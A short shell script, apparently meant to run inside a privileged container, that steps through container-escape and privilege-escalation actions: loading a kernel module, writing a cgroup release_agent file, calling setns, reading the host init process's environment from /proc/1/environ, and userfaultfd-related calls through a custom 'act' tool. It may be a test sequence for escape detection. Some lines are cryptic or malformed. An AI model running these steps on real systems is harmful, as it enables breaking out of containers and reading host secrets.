#!/bin/sh
# In a privileged container, behind /go.
cd /
/usr/bin/debugfs -R ls /dev/none
/bin/mkdir -p /mnt/x
/bin/mount -t tmpfs tmpfs /mnt/x
/usr/bin/insmod mod
/usr/bin/act w /tmp/release_agent
/usr/bin/act setns
/bin/cat /proc/1/environ >/dev/null
/usr/bin/act w /dev/lannerf
/usr/bin/act uid 1000 , x /bin/id , uffd
